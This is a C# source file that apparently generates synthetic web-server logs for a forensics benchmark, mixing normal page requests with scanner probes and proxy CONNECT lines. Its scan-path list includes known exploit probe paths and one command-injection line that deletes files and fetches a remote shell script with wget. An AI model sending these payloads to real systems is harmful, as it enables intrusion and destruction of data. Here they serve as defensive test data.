using System.Text;

namespace Forensics.Bench.EndToEnd;

/// <summary>
/// The request mix a small public site sees, shared by the Werkzeug and nginx generators so both logs carry the
/// same kinds of lines: mostly GET/POST of the site's pages, vulnerability scanners, CONNECT host:443 and
/// absolute-form proxy probes (the seed incident's <c>CONNECT api.ipify.org:443</c>), and malformed lines.
/// </summary>
public sealed class WebRequestMix(int seed)
{
    private static readonly string[] SitePaths = ["/", "/index.html", "/about", "/contact", "/blog", "/blog/2024/05/hello-world", "/static/css/site.css", "/static/js/app.js", "/static/img/logo.png", "/favicon.ico", "/robots.txt", "/login", "/api/v1/items?page=2", "/search?q=flask+logging", "/sitemap.xml"];
    private static readonly string[] ScanPaths = ["/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php", "/cgi-bin/luci/;stok=/locale", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/actuator/health", "/HNAP1/", "/owa/auth/logon.aspx", "/solr/admin/info/system", "/shell?cd+/tmp;rm+-rf+*;wget+http://94.156.8.3/bins.sh"];
    private static readonly string[] ProxyHosts = ["api.ipify.org", "www.google.com", "ip-api.com", "httpbin.org", "azenv.net", "www.bing.com"];

    public readonly Random Rng = new(seed);

    public string Ip() => $"{Rng.Next(1, 224)}.{Rng.Next(256)}.{Rng.Next(256)}.{Rng.Next(1, 255)}";

    /// <summary>Kind of line chosen: 0 page, 1 scanner, 2 CONNECT, 3 absolute-form, 4 malformed (400).</summary>
    public int NextKind()
    {
        int r = Rng.Next(100);
        return r < 70 ? 0 : r < 88 ? 1 : r < 93 ? 2 : r < 97 ? 3 : 4;
    }

    /// <summary>Appends the request line for a kind (not for 4), returns the status the server answered.</summary>
    public int AppendRequest(StringBuilder sb, int kind, int connectStatus)
    {
        switch (kind)
        {
            case 0:
                bool post = Rng.Next(10) == 0;
                sb.Append(post ? "POST " : "GET ").Append(post ? "/login" : SitePaths[Rng.Next(SitePaths.Length)]).Append(Rng.Next(8) == 0 ? " HTTP/1.0" : " HTTP/1.1");
                int r = Rng.Next(20);
                return r < 16 ? 200 : r < 18 ? 304 : r < 19 ? 302 : 404;
            case 1:
                sb.Append(Rng.Next(5) == 0 ? "POST " : "GET ").Append(ScanPaths[Rng.Next(ScanPaths.Length)]).Append(" HTTP/1.1");
                return 404;
            case 2:
                sb.Append("CONNECT ").Append(ProxyHosts[Rng.Next(ProxyHosts.Length)]).Append(":443 HTTP/1.1");
                return connectStatus;
            default:
                sb.Append("GET http://").Append(ProxyHosts[Rng.Next(ProxyHosts.Length)]).Append(Rng.Next(3) == 0 ? ":80/" : "/").Append(Rng.Next(2) == 0 ? "" : "?format=json").Append(" HTTP/1.1");
                return 404;
        }
    }
}
